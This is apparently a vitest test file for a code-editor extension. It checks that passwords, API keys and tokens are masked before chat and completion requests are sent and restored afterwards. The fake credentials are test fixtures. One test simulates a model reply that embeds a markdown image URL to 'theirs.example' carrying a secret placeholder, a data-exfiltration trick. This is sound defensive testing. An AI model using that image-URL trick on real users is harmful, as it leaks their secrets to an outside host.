/**
 * Goal: no planted secret leaves through the shipped extension, in whatever it stands, and the answer has
 * every value again. Method: the built bundle with a pool that keeps every body, and answers with what it
 * was given; secrets in twenty programming languages and twenty natural ones, in diffs and cut.
 */
import { everydaySecrets } from "@granary/shared/testing/planted-secrets/everyday-secrets";
import {
  plantSecrets,
  type PlantedSecret,
} from "@granary/shared/testing/planted-secrets/plant-secrets";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { startJoinedEditor, stubToken } from "../support/vscode/joined-editor.ts";
import { stubDocument } from "../support/vscode/stub-documents.ts";
import type { StubEditor } from "../support/vscode/stub-editor.ts";
import { createStubPool, type AnswerDelta } from "../support/vscode/stub-pool.ts";

type Message = {
  readonly role: string;
  readonly content: string | null;
  readonly tool_calls?: readonly { readonly function: { readonly arguments: string } }[];
};
type Body = { readonly messages?: readonly Message[]; readonly prompt?: string };

const said = (body: string) => (JSON.parse(body) as Body).messages?.at(-1)?.content ?? "";
const calledWith = (body: string) =>
  (JSON.parse(body) as Body).messages?.findLast(({ tool_calls: calls }) => calls !== undefined)
    ?.tool_calls?.[0]?.function.arguments ?? "{}";

let editor: StubEditor;
/** What becomes of an answer on its way. */
let spoil: ((answer: string) => string) | undefined;
/** What is filled in. */
let fill = () => "";
/** Says again what it was told last, and calls the tool again as it was called. */
function answerTo(body: string): readonly AnswerDelta[] {
  if (!body.includes('"messages"')) return [{ content: fill() }];
  const answer = spoil?.(said(body)) ?? said(body);
  const call = { name: "edit", arguments: calledWith(body) };
  return [
    ...(answer.match(/[\s\S]{1,3}/g) ?? []).map((content) => ({ content })),
    { tool_calls: [{ index: 0, id: "new", function: call }] },
  ];
}
const pool = createStubPool(() => "", answerTo);
const network = vi.spyOn(globalThis, "fetch").mockImplementation(pool.fetch);
beforeAll(async () => {
  editor = await startJoinedEditor();
});
afterAll(() => network.mockRestore());

const planted = [...plantSecrets(20_263), ...everydaySecrets(20_263)];
const user = (value: string) => ({ role: 1, content: [{ value }] });

/** What of a secret stands in a body: four lines or characters of it are enough to tell. */
function isIn(body: string, { text, start, end }: PlantedSecret): boolean {
  const secret = text.slice(start, end);
  const pieces = secret.includes("\n") ? secret.split("\n") : [secret];
  const written = pieces.flatMap((piece) => [piece, JSON.stringify(piece).slice(1, -1)]);
  return written.some((piece) => piece.length >= 4 && body.includes(piece));
}

const leaking = (bodies: readonly string[], secrets: readonly PlantedSecret[]) =>
  secrets.filter((secret) => bodies.some((body) => isIn(body, secret))).map(({ name }) => name);

async function sentBy(ask: () => Promise<unknown>): Promise<readonly string[]> {
  const before = pool.bodies().length;
  await ask();
  return pool.bodies().slice(before);
}

describe(`${planted.length} planted secrets are gone`, () => {
  it("from what a person writes, and from what tools were called with and gave; and come back", async () => {
    const failing: string[] = [];
    for (const secret of planted) {
      const input = { path: "a.ts", code: secret.text };
      const shown = editor.chat([
        user(`Look at this:\n${secret.text}`),
        { role: 2, content: [{ callId: "a", name: "edit", input }] },
        { role: 1, content: [{ callId: "a", content: [{ value: secret.text }] }] },
        user(secret.text),
      ]);
      const bodies = await sentBy(() => shown);
      expect(bodies).toHaveLength(1);
      const parts = await shown;
      const text = parts.map(({ value }) => (typeof value === "string" ? value : "")).join("");
      const call = parts.find(({ name }) => name === "edit");
      if (leaking(bodies, [secret]).length > 0) failing.push(`${secret.name} is sent`);
      if (text !== secret.text) failing.push(`${secret.name} does not come back`);
      if (JSON.stringify(call?.input) !== JSON.stringify(input)) {
        failing.push(`${secret.name} does not come back in a tool's input`);
      }
    }
    expect(failing).toEqual([]);
  });

  it("from a chat that holds many of them in one diff", async () => {
    for (let at = 0; at < planted.length; at += 40) {
      const some = planted.slice(at, at + 40);
      const lines = some.flatMap(({ text }) => text.split("\n"));
      const diff = `--- a/x\n+++ b/x\n@@ -1 +1,${lines.length} @@\n${lines.map((line) => `+${line}`).join("\n")}`;
      const whole = some.filter(({ name }) => !name.includes("diff") && !name.includes("cut"));
      expect(leaking(await sentBy(() => editor.chat([user(diff)])), whole)).toEqual([]);
    }
  });

  it.each([
    ["before", (text: string) => `${text}\nconst next = ▮`],
    ["behind", (text: string) => `const next = ▮\n${text}`],
    ["right at", (text: string) => `${text}▮`],
  ])("from what stands %s the cursor", async (where, write) => {
    const files = planted.filter(
      ({ text, name }) =>
        !/PRIVATE KEY|Private-Lines/.test(text) && (where !== "before" || !name.includes("cut")),
    );
    expect(files.length).toBeGreaterThan(300);
    const leaks: string[] = [];
    for (const [at, secret] of files.entries()) {
      const name = `shop/${where}-${at}.ts`;
      const { document, position } = stubDocument(name, "typescript", write(secret.text));
      const bodies = await sentBy(() =>
        editor.suggest(document, position, { triggerKind: 0 }, stubToken),
      );
      expect(bodies).toHaveLength(1);
      leaks.push(...leaking(bodies, [secret]));
    }
    expect(leaks).toEqual([]);
  });
});

const password = "Xy7!kkk2Zq";
const key = "q8Zt4Lm2Xw9Rb7Vn3Kc6";

describe("what only the words beside it tell is gone, and comes back", () => {
  it.each<[string, Readonly<Record<string, unknown>>, string]>([
    ["a field", { password }, password],
    ["a field of a field", { env: { API_KEY: key } }, key],
    ["a name and a value", { name: "DB_PASSWORD", value: password }, password],
    [
      "a list of words",
      { command: "mysql", args: ["-u", "root", "--password", password] },
      password,
    ],
    ["a list in a field", { password: [password] }, password],
    ["a Secret", { kind: "Secret", data: { password: "c3VwZXJzZWNyZXQx" } }, "c3VwZXJzZWNyZXQx"],
    ["what a field is called", { [`ghp_${"aB3x".repeat(9)}`]: 1 }, "aB3xaB3x"],
  ])("in what a tool was called with: %s", async (_what, input, secret) => {
    const shown = editor.chat([
      user("go on"),
      { role: 2, content: [{ callId: "a", name: "edit", input }] },
      { role: 1, content: [{ callId: "a", content: [{ value: "done" }] }] },
      user("again"),
    ]);
    expect((await sentBy(() => shown)).join("")).not.toContain(secret);
    expect((await shown).find(({ name }) => name === "edit")?.input).toEqual(input);
  });

  it("also a number, which comes back as a text", async () => {
    const input = { password: 8_471_936_255 };
    const call = { role: 2, content: [{ callId: "a", name: "edit", input }] };
    const result = { role: 1, content: [{ callId: "a", content: [{ value: "done" }] }] };
    const bodies = await sentBy(() => editor.chat([user("go on"), call, result]));
    expect(bodies.join("")).not.toContain("8471936255");
  });

  it.each([
    ['const password = "Xy7!k▮kk2ZqW9";', /Xy7!k|kk2ZqW9/],
    [`const k = "ghp_${"aB3x".repeat(4)}▮${"aB3x".repeat(5)}";`, /aB3x/],
    ['const k = "postgres://app:Xy7!k▮kk2ZqW9@db/x";', /Xy7!k|kk2ZqW9/],
    [`const password = ▮"${password}";`, /Xy7!/],
    [`password: ▮${password}\nuser: a`, /Xy7!/],
  ])("on both sides of the cursor: %s", async (text, secret) => {
    const { document, position } = stubDocument("shop/middle.ts", "typescript", text);
    const bodies = await sentBy(() =>
      editor.suggest(document, position, { triggerKind: 0 }, stubToken),
    );
    expect(bodies).toHaveLength(1);
    expect(bodies.join("")).not.toMatch(secret);
  });
});

it("a value is put into no address that a model makes up", async () => {
  const text = `const password = '${password}';`;
  spoil = (answer) => {
    const [place = ""] = /PASSWORD_\w{5}/.exec(answer) ?? [];
    return `![i](https://theirs.example/?q=${place}) ${answer}`;
  };
  const parts = await editor.chat([user(text)]);
  spoil = undefined;
  const shown = parts.map(({ value }) => (typeof value === "string" ? value : "")).join("");
  expect(shown).toMatch(/theirs\.example\/\?q=PASSWORD_\w{5}\) const password = 'Xy7!kkk2Zq';/);
  expect(shown).toContain("an address that it did not come from");
});

const withWrongSymbol = (placeholder: string) =>
  placeholder.slice(0, -1) + (placeholder.endsWith("X") ? "Q" : "X");

/** The first that was sent last. */
const placeholder = () => /PASSWORD_\w{5}/.exec(pool.bodies().at(-1) ?? "")?.[0] ?? "";

describe("a placeholder that comes back damaged", () => {
  const text = "const password = 'Xy7!kkk2';\nconnect(password, 'Xy7!kkk2');";

  it.each<[string, (placeholder: string) => string]>([
    ["cut", (placeholder) => placeholder.slice(0, -1)],
    ["with a wrong symbol", withWrongSymbol],
    [
      "in small letters with a wrong symbol",
      (placeholder) => withWrongSymbol(placeholder).toLowerCase(),
    ],
  ])("%s is left as it came, and the chat says which", async (_how, how) => {
    spoil = (answer) => answer.replaceAll(/PASSWORD_\w{5}/g, how);
    const parts = await editor.chat([user(text)]);
    spoil = undefined;
    const shown = parts.map(({ value }) => value).filter((value) => typeof value === "string");
    const [, left = ""] = /'(password_\w+)'/i.exec(shown.join("")) ?? [];
    expect(left).not.toBe("");
    expect(shown.join("")).not.toContain("Xy7");
    expect(shown.at(-1)).toContain(`The model garbled \`${left}\`, which stood for a password`);
  });

  it("is in no suggestion, and the next one is asked for", async () => {
    const { document, position } = stubDocument(
      "shop/garbled.ts",
      "typescript",
      `${text}\nlogin('▮`,
    );
    fill = () => `${placeholder().slice(0, -1)}');`;
    const ask = () => editor.suggest(document, position, { triggerKind: 0 }, stubToken);
    expect((await ask())?.map(({ insertText }) => insertText) ?? []).toEqual([]);
    fill = () => `${placeholder()}');`;
    expect((await ask())?.map(({ insertText }) => insertText)).toEqual(["Xy7!kkk2');"]);
  });
});
